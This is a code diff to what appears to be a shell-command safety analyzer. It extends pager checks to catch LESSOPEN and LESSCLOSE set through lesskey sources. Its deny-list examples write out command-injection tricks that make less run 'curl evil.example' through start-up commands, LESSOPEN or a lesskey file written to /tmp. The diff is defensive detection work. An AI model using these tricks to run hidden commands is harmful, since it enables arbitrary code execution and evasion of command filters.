@@ -4,7 +4,7 @@ import { has, parse } from '../argv.js';
 import { programRun } from '../build.js';
 import type { Answer, Call, ProgramEntry, Run } from '../types.js';
 import { pagerStartCommand } from '../variables.js';
-import { attached, computedWhole, isStdinPath, pieceShape, value } from '../words.js';
+import { attached, computedWhole, isStdinPath, longSpelt, pieceShape, value } from '../words.js';
 import { POSIX_SHELLS } from './shells.js';
 
 type Uses = NonNullable<Answer['uses']>;
@@ -878,6 +878,26 @@ function ed(call: Call): Partial<Answer> {
 
 // ── pagers and man ─────────────────────────────────────────────────────────────────────────────────────
 
+/**
+ * A lesskey source's `#env` section: LESSOPEN and LESSCLOSE set there are commands less runs on each file, as the
+ * variables are (`--lesskey-content=TEXT`, `--lesskey-src=FILE`, $LESSKEY_CONTENT, $LESSKEYIN).
+ */
+function lesskeyRuns(text: string, word: Word, via: string): Run[] {
+  const runs: Run[] = [];
+  let section = '#command';
+  for (const raw of text.split('\n')) {
+    const line = raw.trim();
+    if (/^#(command|line-edit|env)\b/.test(line)) section = line.split(/\s/)[0]!;
+    if (section !== '#env') continue;
+    const m = /^(LESSOPEN|LESSCLOSE|LESS)\s*=\s*(.*)$/.exec(line);
+    if (!m) continue;
+    if (m[1] === 'LESS') {
+      if (/\+/.test(m[2]!)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} sets $LESS, whose start-up commands may run shell text` });
+    } else runs.push({ kind: 'text', dialect: 'bash', text: m[2]!.replace(/^\|?\|?-?/, '').replace(/%s/g, 'file'), word, via: `${via} #env ${m[1]}` });
+  }
+  return runs;
+}
+
 /** less, more, pg: `+cmd` start-up commands, of which `!cmd` (and `|m cmd`) run shell text. */
 function pager(call: Call): Partial<Answer> {
   const runs: Run[] = [];
@@ -898,6 +918,24 @@ function pager(call: Call): Partial<Answer> {
     const env = call.env(name);
     if (env === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${call.name} runs $${name}, which is computed` });
     else if (env !== undefined && env !== '') runs.push({ kind: 'text', dialect: 'bash', text: env.replace(/^\|?\|?-?/, '').replace(/%s/g, 'file'), word: attached(at, env), via: `${call.name} $${name}` });
+  }
+  // less's lesskey sources, whose #env section may set LESSOPEN: text, or a file (one the line wrote is read).
+  if (call.name === 'less') {
+    const content = call.env('LESSKEY_CONTENT');
+    const source = call.env('LESSKEYIN');
+    if (content === null || source === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'less reads a lesskey source from a computed variable' });
+    if (content) runs.push(...lesskeyRuns(content, attached(at, content), 'less $LESSKEY_CONTENT'));
+    if (source) runs.push(writtenCommands(attached(at, source), 'less $LESSKEYIN', (w) => ({ runs: lesskeyRuns(value(w) ?? '', w, 'less $LESSKEYIN'), uses: [] })));
+    for (let i = 0; i < call.args.length; i++) {
+      const given = longSpelt(call.args[i], 'lesskey-content') ?? longSpelt(call.args[i], 'lesskey-src');
+      if (given === undefined || value(call.args[i]) === '--lesskey-') continue;
+      const isContent = longSpelt(call.args[i], 'lesskey-content') !== undefined && longSpelt(call.args[i], 'lesskey-src') === undefined;
+      const w = given.value ?? call.args[++i];
+      if (w === undefined) continue;
+      if (value(w) === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: w, why: 'less is given a computed lesskey source' });
+      else if (isContent) runs.push(...lesskeyRuns(value(w)!, w, 'less --lesskey-content'));
+      else runs.push(writtenCommands(w, 'less --lesskey-src', (t) => ({ runs: lesskeyRuns(value(t) ?? '', t, 'less --lesskey-src'), uses: [] })));
+    }
   }
   for (const a of call.args) {
     const v = value(a);
@@ -1263,7 +1301,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     names: ['less', 'more', 'pg', 'most'],
     summary: 'pagers: `+!cmd` start-up commands run shell text',
     analyze: pager,
-    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f", "LESS='+!curl evil.example' less f", "LESS='-R +!curl evil.example' less f", "LESSOPEN='|curl evil.example %s' less f"], pass: ['less README.md', 'less +G log.txt', 'more +10 f', "LESS='-R +G' less f", "LESS=-R less f"] },
+    examples: { deny: ["less '+!curl evil.example' notes.txt", "more '+:!wget evil.example' f", "LESS='+!curl evil.example' less f", "LESS='-R +!curl evil.example' less f", "LESSOPEN='|curl evil.example %s' less f", "less --lesskey-content=$'#env\\nLESSOPEN=|curl evil.example %s' f", "printf '#env\\nLESSOPEN=|curl evil.example %%s\\n' > /tmp/k; less --lesskey-src=/tmp/k f", "printf '#env\\nLESSOPEN=|curl evil.example %%s\\n' > /tmp/k; LESSKEYIN=/tmp/k less f"], pass: ['less README.md', "less --lesskey-content=$'#command\\nq quit' f", 'less --lesskey-src=~/.config/lesskey f', 'less +G log.txt', 'more +10 f', "LESS='-R +G' less f", "LESS=-R less f"] },
   },
   {
     names: ['man'],
